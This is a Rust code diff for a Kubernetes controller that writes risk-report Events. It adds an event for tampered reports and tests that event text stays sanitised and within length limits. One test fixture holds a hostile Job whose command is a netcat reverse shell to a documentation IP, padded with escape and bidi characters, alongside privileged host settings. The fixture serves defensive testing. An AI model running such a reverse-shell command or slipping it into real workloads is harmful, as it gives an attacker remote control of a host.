@@ -19,6 +19,8 @@ use crate::severity::Severity;
 const CONTROLLER: &str = "jobrisk.io/controller";
 /// What is done.
 const ACTION: &str = "Assess";
+/// The API version of reports.
+const REPORT_API_VERSION: &str = "jobrisk.io/v1alpha1";
 /// The API's limit on a note.
 const MAX_NOTE: usize = 1024;
 
@@ -119,7 +121,7 @@ pub fn event(
             ..ObjectReference::default()
         }),
         related: Some(ObjectReference {
-            api_version: Some("jobrisk.io/v1alpha1".to_owned()),
+            api_version: Some(REPORT_API_VERSION.to_owned()),
             kind: Some("JobRiskReport".to_owned()),
             name: report.metadata.name.clone(),
             namespace,
@@ -169,6 +171,34 @@ pub fn refusal(namespace: &str, why: &'static str, pod: &Pod, now: Timestamp) ->
             ..ObjectReference::default()
         }),
         ..stamped(now, &pod.name)
+    }
+}
+
+/// The Event on a report whose workload is gone that somebody else has changed it.
+pub fn changed_evidence(namespace: &str, name: &str, uid: &str, now: Timestamp, instance: &str) -> Event {
+    let note = format!(
+        "Somebody else changed jobriskreport {name} after its workload was gone. It says so now; of what it said \
+         before only the severity, the risk score and the peak could be put back."
+    );
+    Event {
+        metadata: ObjectMeta {
+            name: Some(format!("{name}.changed-{:x}", now.as_second())),
+            namespace: Some(namespace.to_owned()),
+            ..ObjectMeta::default()
+        },
+        action: Some(ACTION.to_owned()),
+        reason: Some(reasons::REPORT_TAMPERED.to_owned()),
+        note: Some(cut(&note)),
+        type_: Some("Warning".to_owned()),
+        regarding: Some(ObjectReference {
+            api_version: Some(REPORT_API_VERSION.to_owned()),
+            kind: Some("JobRiskReport".to_owned()),
+            name: Some(name.to_owned()),
+            namespace: Some(namespace.to_owned()),
+            uid: Some(uid.to_owned()),
+            ..ObjectReference::default()
+        }),
+        ..stamped(now, instance)
     }
 }
 
@@ -238,6 +268,10 @@ fn note(report: &JobRiskReport, before: Severity) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::assess::assess;
+    use crate::report::report;
+    use crate::workload::Kind;
+    use crate::workload::decode::from_json;
 
     #[test]
     fn a_flood_of_events_is_cut() {
@@ -261,5 +295,51 @@ mod tests {
         ] {
             assert_eq!(reason(before, now), expected, "{before} -> {now}");
         }
+    }
+
+    /// A report whose every text that comes from the workload is hostile and as long as it may be.
+    fn hostile() -> JobRiskReport {
+        let name = "a.b-".repeat(15) + "x";
+        let script = format!("nc 192.0.2.10 4444 -e /bin/sh \u{1b}[2J\u{202e}{}", "y".repeat(1000));
+        let json = serde_json::json!({
+            "metadata": { "name": name, "namespace": "n", "uid": "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0" },
+            "spec": { "template": { "spec": {
+                "hostPID": true, "hostNetwork": true, "serviceAccountName": "\u{7}\r\n".repeat(100),
+                "containers": [{ "name": "\u{1b}c", "image": "ncat:\n", "command": ["/bin/sh", "-c", script],
+                    "securityContext": { "privileged": true } }],
+            } } },
+        });
+        let object = from_json(json.to_string().as_bytes()).unwrap();
+        report(&assess(Kind::Job, &object)).report
+    }
+
+    #[test]
+    fn o10_why_an_event_is_written_is_a_constant_and_all_of_it_is_within_the_limits() {
+        let report = hostile();
+        let instance = "i".repeat(1000);
+        for (what, reason) in [
+            (Announcement::Severity(reasons::RISK_DETECTED), reasons::RISK_DETECTED),
+            (Announcement::Tampered, reasons::REPORT_TAMPERED),
+        ] {
+            let digest = crate::report::digest(&report);
+            let event = event(&report, digest, None, what, Timestamp::UNIX_EPOCH, &instance).unwrap();
+            assert_eq!(event.reason.as_deref(), Some(reason));
+            assert_eq!(event.action.as_deref(), Some(ACTION));
+            assert!(reason.len() <= 128 && ACTION.len() <= 128);
+            assert!(event.reporting_instance.unwrap().len() <= 128);
+            let name = event.metadata.name.unwrap();
+            assert!(
+                name.len() <= 253
+                    && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".-".contains(&byte))
+            );
+            let note = event.note.unwrap();
+            assert!(
+                note.len() <= MAX_NOTE && note.chars().all(|character| (' '..='~').contains(&character)),
+                "{note:?}"
+            );
+        }
+        let pod = Pod { namespace: "jobrisk-system".to_owned(), name: "jobrisk-0".to_owned() };
+        let refused = refusal("n", "refused", &pod, Timestamp::UNIX_EPOCH);
+        assert_eq!(refused.reason.as_deref(), Some(reasons::REPORTS_REFUSED));
     }
 }
